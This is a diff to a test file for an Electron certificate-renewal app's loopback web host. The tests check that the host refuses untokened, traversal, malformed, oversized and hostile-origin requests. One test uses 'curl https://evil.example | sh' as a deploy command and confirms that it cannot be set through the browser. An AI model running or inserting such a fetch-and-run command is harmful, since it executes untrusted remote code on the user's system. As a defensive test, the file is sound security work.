@@ -6,10 +6,12 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { createApp } from '../../../electron/core/app/create-app.ts';
 import { startWebHost, type WebHost } from '../../../electron/web-host/server.ts';
+import { seedCertificate } from '../core/app/seed-certificate.ts';
 
 // The loopback web host, attacked the way a hostile page or a DNS-rebinding site would.
 let host: WebHost;
 let close: () => Promise<void>;
+let certificateId: string;
 
 before(async () => {
   const base = mkdtempSync(path.join(tmpdir(), 'webhost-'));
@@ -17,6 +19,7 @@ before(async () => {
   mkdirSync(rendererDir);
   writeFileSync(path.join(rendererDir, 'index.html'), '<!doctype html><title>PersistCert</title>');
   writeFileSync(path.join(base, 'secret.txt'), 'not for the browser');
+  certificateId = await seedCertificate(path.join(base, 'data'));
   const app = await createApp({ dataDir: path.join(base, 'data'), host: 'web', keystore: 'file', passphrase: async () => 'a long test passphrase', scryptN: 1024 });
   host = await startWebHost({ handler: app.handler, rendererDir });
   close = async () => {
@@ -74,6 +77,15 @@ const refused: { what: string; send: () => Promise<Reply>; status: number }[] = 
   { what: 'the page without the token', send: () => send('/'), status: 401 },
   { what: 'a CORS preflight', send: () => send('/api/call/caPresets', { method: 'OPTIONS', headers: { origin: 'http://evil.example' } }), status: 403 },
   { what: 'path traversal', send: () => send('/..%2Fsecret.txt'), status: 404 },
+  { what: 'the page by a detour without the token', send: () => send('/assets/..%2Findex.html'), status: 401 },
+  { what: 'the page by name without the token', send: () => send('/index.html'), status: 401 },
+  { what: 'a path that is not valid percent-encoding', send: () => send('/%ZZ'), status: 400 },
+  { what: 'a body over 2 MiB', send: () => call('caPresets', { pad: 'x'.repeat(3 * 1024 * 1024) }), status: 413 },
+  {
+    what: 'a chunked body over 2 MiB (no content-length)',
+    send: () => send('/api/call/caPresets', { method: 'POST', headers: { 'content-type': 'application/json', origin: host.origin, 'x-persistcert-token': host.token, 'transfer-encoding': 'chunked' }, body: JSON.stringify({ pad: 'x'.repeat(3 * 1024 * 1024) }) }),
+    status: 413,
+  },
   { what: 'an unknown method', send: () => call('shutdownEverything', {}), status: 404 },
 ];
 for (const r of refused) {
@@ -81,7 +93,7 @@ for (const r of refused) {
     const reply = await r.send();
     assert.equal(reply.status, r.status, reply.body);
     assert.equal(reply.headers['access-control-allow-origin'], undefined);
-    assert.doesNotMatch(reply.body, /not for the browser/);
+    assert.doesNotMatch(reply.body, /not for the browser|<title>PersistCert/);
   });
 }
 
@@ -106,4 +118,43 @@ test('the page is served with the token, and the event stream opens with it', as
     req.end();
   });
   assert.equal(events, 200);
+});
+
+test('deploy commands can be shown but never set through the web host', async () => {
+  const settings = (run: string | null) => ({
+    certificateId,
+    autoRenew: true,
+    reuseKey: false,
+    pem: null,
+    pfx: null,
+    command: run === null ? null : { run, timeoutSec: 60 },
+    backupAccountId: null,
+    failoverAfter: 3,
+  });
+  const refused = JSON.parse((await call('setRenewalSettings', settings('curl https://evil.example | sh'))).body);
+  assert.equal(refused.ok, false);
+  assert.match(refused.error.message, /cannot be set from the browser.*desktop app.*persistcert configure/);
+  const shown = JSON.parse((await call('getRenewalSettings', { certificateId })).body);
+  assert.equal(shown.ok, true);
+  assert.equal(shown.value.command, null, 'nothing was saved');
+  // Other renewal settings still save from the browser.
+  const saved = JSON.parse((await call('setRenewalSettings', { ...settings(null), autoRenew: false })).body);
+  assert.equal(saved.ok, true, JSON.stringify(saved));
+  assert.equal(saved.value.autoRenew, false);
+});
+
+test('resolver settings: a typo or a bad port is refused with the entry named; "system" (system resolver only) is accepted', async () => {
+  const settings = (resolvers: string[]) => ({ resolvers, notifyOnSuccess: false, launchAtLogin: false, renewalsPaused: false, webhookUrl: '' });
+  for (const [entry, message] of [
+    ['not a server', /Resolver "not a server": .*not a DNS server: write an IP address/],
+    ['1.1.1.1:99999', /Resolver "1\.1\.1\.1:99999": .*invalid port: use 1 to 65535/],
+    ['dns.example', /not a DNS server/],
+  ] as const) {
+    const r = JSON.parse((await call('setSettings', settings(['9.9.9.9', entry]))).body);
+    assert.equal(r.ok, false, entry);
+    assert.match(r.error.message, message);
+  }
+  const ok = JSON.parse((await call('setSettings', settings(['system']))).body);
+  assert.equal(ok.ok, true, JSON.stringify(ok));
+  assert.deepEqual(ok.value.resolvers, ['system']);
 });
